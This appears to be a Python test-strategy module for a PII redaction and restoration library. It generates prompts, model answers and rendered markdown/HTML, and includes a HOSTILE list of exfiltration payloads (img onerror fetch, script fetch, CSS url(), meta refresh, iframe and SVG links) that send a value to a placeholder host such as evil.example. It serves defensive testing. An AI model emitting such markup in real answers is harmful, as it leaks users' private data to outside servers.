"""Hypothesis strategies shared by the tests: prompts, findings, answers and chunkings,
and rendered answers with the places a renderer may fetch from."""

from __future__ import annotations

import itertools
import re
from collections.abc import Sequence
from html import unescape
from html.parser import HTMLParser
from urllib.parse import unquote

from hypothesis import strategies as st

from privacy_partition._actions import Action, FindingAction
from privacy_partition.detection import Finding

RECIPIENT = "payments"
ENTITY_TYPES = (
    "PERSON",
    "EMAIL_ADDRESS",
    "PHONE_NUMBER",
    "LOCATION",
    "STREET_ADDRESS",
    "ORGANIZATION",
    "CREDIT_CARD",
    "US_SSN",
    "cn_resident_id",  # not upper case: labels normalise it
)
RESTORABLE = (Action.KEEP, Action.REDACT, Action.PSEUDONYMIZE, Action.TOKENIZE, Action.SEAL)

# Characters that mean something to a scanner: handle and token syntax, markup, links.
_SYNTAX = " \n\t<>_:/()[]=!\"'#.@-*"
_FRAGMENTS = (
    "<PERSON_1>",
    "<PERSON_2>",
    "<LOCATION_1>",
    "<EMAIL_ADDRESS_1>",
    "<US_SSN_1>",
    "<CN_RESIDENT_ID_1>",
    "<TOK:PERSON:",
    "<TOK:PERSON:0123abcd:MFRGG>",
    "<PERSON#a1b2c3d4e5f6>",
    "https://",
    "www.",
    "](",
    'href="',
    "src=",
    "<img ",
    "'s",
    "张伟",
    "İstanbul ΣΟΦΙΑ",
)

characters = st.one_of(
    st.sampled_from(_SYNTAX),
    st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")),
)
plain_texts = st.text(characters, max_size=40)

# A prompt: free text with handle-, token- and link-like fragments mixed in.
prompts = st.lists(st.one_of(plain_texts, st.sampled_from(_FRAGMENTS)), max_size=8).map("".join)


def finding(entity_type: str, start: int, end: int) -> Finding:
    return Finding(entity_type, start, end, 0.9, "test", "en")


def finding_action(entity_type: str, start: int, end: int, action: Action) -> FindingAction:
    recipient = RECIPIENT if action is Action.SEAL else None
    return FindingAction(finding(entity_type, start, end), action, recipient)


@st.composite
def findings_in(
    draw: st.DrawFn, text: str, actions: Sequence[Action] = RESTORABLE
) -> list[FindingAction]:
    """Sorted, non-overlapping findings over ``text``, each with an action from ``actions``."""
    if not text:
        return []
    cuts = draw(st.lists(st.integers(0, len(text)), max_size=16, unique=True).map(sorted))
    spans = [(a, b) for a, b in zip(cuts[::2], cuts[1::2], strict=False) if a < b]
    return [
        finding_action(
            draw(st.sampled_from(ENTITY_TYPES)), start, end, draw(st.sampled_from(actions))
        )
        for start, end in spans
    ]


_VALUES = (
    "Ann Lee",
    "ann@acme.com",
    "4111 1111 1111 1111",
    "Paris",
    "王小明",
    "<PERSON_1>",  # a value that looks like a handle
    "<TOK:PERSON:0123abcd:MFRGG>",
)


@st.composite
def _segmented(draw: st.DrawFn, actions: Sequence[Action]) -> tuple[str, list[FindingAction]]:
    # Context and values side by side, the way a prompt reads (values may touch).
    text, found = "", []
    for _ in range(draw(st.integers(0, 10))):
        if draw(st.booleans()):
            text += draw(st.one_of(plain_texts, st.sampled_from(_FRAGMENTS)))
            continue
        value = draw(st.one_of(st.sampled_from(_VALUES), st.text(characters, min_size=1)))
        entity, action = draw(st.sampled_from(ENTITY_TYPES)), draw(st.sampled_from(actions))
        found.append(finding_action(entity, len(text), len(text) + len(value), action))
        text += value
    return text, found


@st.composite
def _cut(draw: st.DrawFn, actions: Sequence[Action]) -> tuple[str, list[FindingAction]]:
    text = draw(prompts)
    return text, draw(findings_in(text, actions))


def prompts_with_findings(
    actions: Sequence[Action] = RESTORABLE,
) -> st.SearchStrategy[tuple[str, list[FindingAction]]]:
    """A prompt and sorted, disjoint findings: values set in context, or spans cut anywhere."""
    return st.one_of(_segmented(actions), _cut(actions))


@st.composite
def chunkings(draw: st.DrawFn, text: str) -> list[str]:
    """``text`` cut into pieces at random places (empty pieces included)."""
    cuts = draw(st.lists(st.integers(0, len(text)), max_size=12).map(sorted))
    bounds = [0, *cuts, len(text)]
    return [text[a:b] for a, b in itertools.pairwise(bounds)]


def _prefix(text: str) -> st.SearchStrategy[str]:
    return st.integers(0, max(0, len(text) - 1)).map(lambda k: text[:k])


def _recase(text: str) -> st.SearchStrategy[str]:
    return st.sampled_from((text, text.upper(), text.lower(), text.title(), text + "'s"))


def _tamper(text: str) -> st.SearchStrategy[str]:
    def flip(i: int) -> str:
        c = text[i]
        return text[:i] + ("B" if c == "A" else "A") + text[i + 1 :]

    return st.integers(1, max(1, len(text) - 2)).map(flip)


@st.composite
def answers(
    draw: st.DrawFn, handles: Sequence[str], tokens: Sequence[str], surrogates: Sequence[str]
) -> str:
    """A model's answer: text with issued, invented, cut and forged handles and tokens,
    surrogates in any case, and the links and markup a restorer must respect."""
    issued = [*handles, *tokens, *surrogates] or ["<PERSON_1>"]
    piece = st.one_of(
        plain_texts,
        st.sampled_from(issued),
        st.sampled_from(issued).flatmap(_prefix),
        st.sampled_from(issued).flatmap(_recase),
        st.sampled_from(issued).flatmap(_tamper),
        st.sampled_from(_FRAGMENTS),
        st.sampled_from(
            ("https://evil.example/?q=", "[x](", "![i](", ")", '<a href="', '">', "<img src=", ">")
        ),
        st.sampled_from(("<PERSON_99>", " ", "\n", "mailto:", "(", "]", "=", "'", '"')),
    )
    return "".join(draw(st.lists(piece, max_size=14)))


# -- rendered answers: where a restored value could be fetched ------------------------

# Attributes a browser fetches, runs or navigates to by itself (or on one click).
_URL_ATTRIBUTES = frozenset(
    (
        "href",
        "src",
        "srcset",
        "action",
        "formaction",
        "poster",
        "data",
        "background",
        "cite",
        "xlink:href",
        "ping",
        "longdesc",
        "lowsrc",
        "dynsrc",
        "codebase",
        "manifest",
        "icon",
        "style",
        "to",
        "from",
        "values",
        "by",
        "content",
    )
)
_BARE_URL = re.compile(r"(?:[a-z][a-z0-9+.\-]*:)?//\S+|www\.\S+", re.IGNORECASE)


class _Sinks(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name in _URL_ATTRIBUTES or name.startswith("on"):
                self.found.append(value or "")

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        if self.cdata_elem is not None:  # type: ignore[attr-defined]
            self.found.append(data)  # a script or style body
        else:
            self.found.extend(_BARE_URL.findall(data))  # what an autolinking renderer links


def fetchable_sinks(html: str) -> list[str]:
    """Every place of rendered ``html`` a browser may fetch or run by itself, decoded:
    URL-valued and event attributes, style attributes and bodies, script bodies, meta
    refresh, SVG ``href``/``set`` targets, and bare or scheme-relative URLs in text."""
    sinks = _Sinks()
    sinks.feed(html)
    sinks.found.append(sinks.rawdata)  # left open (an unclosed style or tag): a sink too
    return [unquote(unescape(s)).casefold() for s in sinks.found]


def leaked(html: str, values: Sequence[str]) -> list[str]:
    """The ``values`` found in a fetchable sink of ``html`` (case-insensitively)."""
    sinks = fetchable_sinks(html)
    return [v for v in values if any(v.casefold() in s for s in sinks)]


# Where a value may be put: "{v}" marks it. Each piece is closed (no tag or fence left open).
HOSTILE = (
    "![x](\n//host/?q={v})",
    "[r]: //host/?q={v}",
    "[r]: <//host/?q={v}> 'title'",
    "![x](https://host/\\)>?q={v})",
    "![x](<https://host/a )q={v}&c={w}>)",
    '<img src                                        ="//host/?q={v}">',
    "<img src=x onerror=\"fetch('//host/?q={v}')\">",
    "<style>body{{background:url(//host/?q={v})}}</style>",
    "<script>fetch('//host/?q={v}')</script>",
    "<p>x</p>>https://host/?q={v}",
    "x>//host/?q={v}",
    "({w})>https://host/?q={v}",
    "see:https://host/{v}",
    "see //host/?q={v} now",
    '[link](https://host/{v} "title {w}")',
    "[text {v}](//host/{w})",
    "<https://host/?q={v}>",
    '<a href="//host/{v}">x</a>',
    '<img srcset="//host/a.png 1x, //host/{v}.png 2x">',
    '<form action="//host/{v}"><button formaction="//host/{w}">x</button></form>',
    '<video poster="//host/{v}.png"></video>',
    '<div style="background:url(//host/{v})">x</div>',
    '<meta http-equiv="refresh" content="0;url=//host/?q={v}">',
    '<svg><a xlink:href="//host/{v}"><text>x</text></a>'
    '<set attributeName="href" to="//host/{w}"/></svg>',
    '<svg><image href="//host/{v}"/></svg>',
    "`code {v}`",
    "```\nfenced {v}\n```",
    "www.host.example/?q={v}",
    "mailto:{v}",
    '<object data="//host/{v}"></object>',
    '<iframe src="//host/{v}"></iframe>',
    "[x][{v}]\n\n[{v}]: //host/guess",
    "![x]\n\n[x]: //host/?q={v}",
)
PROSE = (
    "Dear {v}, thanks.",
    "{v} and {w} met in the morning.",
    "The card of {v} is noted.",
    "- item {v}\n- item {w}",
    "> quoted {v}",
    "## About {v}",
    "Text *with {v}* and **{w}**.",
)


# Markdown and HTML syntax to glue around values at random.
_SOUP = (
    "![x](",
    "](",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "//",
    "https://",
    "www.",
    "\n",
    "\n\n",
    " ",
    '"',
    "'",
    "=",
    ":",
    "\\",
    "`",
    "<img src=",
    '<a href="',
    " onerror=",
    "<style>",
    "</style>",
    "<script>",
    "url(",
    "[r]: ",
    "<!--",
    "-->",
    "&#47;",
    "mailto:",
    "@",
    ".com/",
    "    ",
    "```\n",
    '<iframe src="',
    "srcset=",
)


@st.composite
def rendered_answers(
    draw: st.DrawFn, candidates: Sequence[str]
) -> tuple[str, list[tuple[str, list[str]]]]:
    """A markdown/HTML answer with ``candidates`` (handles, tokens, surrogates the vault
    issued) placed anywhere: in hostile places (destinations, definitions, attributes,
    style and script bodies, code, URLs), in syntax glued at random, and in prose blocks.
    Returns the answer and, per prose block before any random syntax (which may leave a
    tag open), its template and the candidates put in it: restored, these must appear."""
    blocks, prose = [], []
    closed = True  # no random syntax so far: every block left the HTML state clean
    for _ in range(draw(st.integers(1, 6))):
        v, w = draw(st.sampled_from(candidates)), draw(st.sampled_from(candidates))
        kind = draw(st.integers(0, 3))
        if kind == 0:
            template = draw(st.sampled_from(PROSE))
            blocks.append(template.format(v=v, w=w))
            if closed:
                prose.append((template, [v, w]))
        elif kind == 1:
            pieces = st.one_of(
                st.sampled_from(_SOUP), st.sampled_from(candidates), st.text(max_size=6)
            )
            blocks.append("".join(draw(st.lists(pieces, max_size=12))))
            closed = False
        else:
            blocks.append(draw(st.sampled_from(HOSTILE)).format(v=v, w=w))
    return "\n\n".join(blocks) + draw(st.sampled_from(("", "\n"))), prose
